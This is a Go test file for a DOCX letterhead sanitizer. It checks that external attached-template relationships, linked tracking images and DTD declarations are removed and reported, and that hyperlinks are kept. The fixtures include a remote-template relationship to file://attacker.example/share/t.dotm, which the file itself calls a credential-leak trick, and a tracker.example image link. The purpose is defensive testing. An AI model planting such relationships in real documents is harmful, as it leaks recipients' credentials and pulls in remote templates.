package docx

import (
	"bytes"
	"strings"
	"testing"
)

// TestLetterheadExternalAndDTDRemoved: an external attached template (a
// remote-template and credential-leak trick), a linked picture and DTDs
// were copied into every DOCX; they are removed and reported, and
// hyperlinks stay.
func TestLetterheadExternalAndDTDRemoved(t *testing.T) {
	ext := `<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file://attacker.example/share/t.dotm" TargetMode="External"/>` +
		`<Relationship Id="rIdP" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/>` +
		`<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://council.example/" TargetMode="External"/></Relationships>`
	data := makeLetterhead(t, map[string][2]string{
		"word/_rels/document.xml.rels": {"</Relationships>", ext},
		"word/styles.xml":              {`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE w:styles [<!ENTITY a "x">]>`},
	})
	r, err := CheckReference("lh.docx", data)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(r.Removed, "\n")
	for _, want := range []string{
		"word/_rels/document.xml.rels: an external attachedTemplate relationship to file://attacker.example/share/t.dotm",
		"word/_rels/document.xml.rels: an external image relationship to http://tracker.example/p.png",
		"word/styles.xml: a DTD (<!DOCTYPE>)",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("removed %q, want %q", got, want)
		}
	}
	w, err := NewWithReference("lh.docx", data)
	if err != nil {
		t.Fatal(err)
	}
	parts, _ := unzip(t, render(t, w, letterheadDoc()))
	for name, b := range parts {
		for _, bad := range []string{"t.dotm", "tracker.example", "<!DOCTYPE"} {
			if bytes.Contains(b, []byte(bad)) {
				t.Errorf("%s still holds %s", name, bad)
			}
		}
	}
	if !bytes.Contains(parts["word/_rels/document.xml.rels"], []byte("https://council.example/")) {
		t.Error("the hyperlink was removed")
	}
}

// TestLetterheadAttachedTemplateInSettings: settings.xml's
// attachedTemplate element goes with its relationship.
func TestLetterheadAttachedTemplateInSettings(t *testing.T) {
	parts := map[string][]byte{
		"word/settings.xml":            []byte(`<w:settings><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`),
		"word/_rels/settings.xml.rels": []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/t.dotm" TargetMode="External"/></Relationships>`),
	}
	removed, err := sanitizeParts(parts)
	if err != nil || len(removed) != 1 {
		t.Fatalf("removed %v, err %v", removed, err)
	}
	if bytes.Contains(parts["word/settings.xml"], []byte("attachedTemplate")) || bytes.Contains(parts["word/_rels/settings.xml.rels"], []byte("t.dotm")) {
		t.Errorf("left: %s / %s", parts["word/settings.xml"], parts["word/_rels/settings.xml.rels"])
	}
}
